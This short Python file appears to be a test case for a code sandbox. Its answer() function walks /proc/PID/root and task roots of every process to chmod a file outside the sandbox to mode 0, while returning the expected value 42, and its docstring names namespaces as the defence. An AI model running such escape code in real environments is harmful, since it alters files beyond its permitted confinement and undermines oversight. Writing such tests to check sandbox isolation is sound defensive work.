"""Goes through /proc/PID/root and /proc/PID/cwd of every process to the file outside.

Prevented by: namespaces.
"""

import contextlib
import glob
import os


def answer():
    for way in [*glob.glob("/proc/[0-9]*/root"), *glob.glob("/proc/[0-9]*/task/*/root")]:
        with contextlib.suppress(OSError):
            os.chmod(way + OUTSIDE + "/file", 0)
    return 42
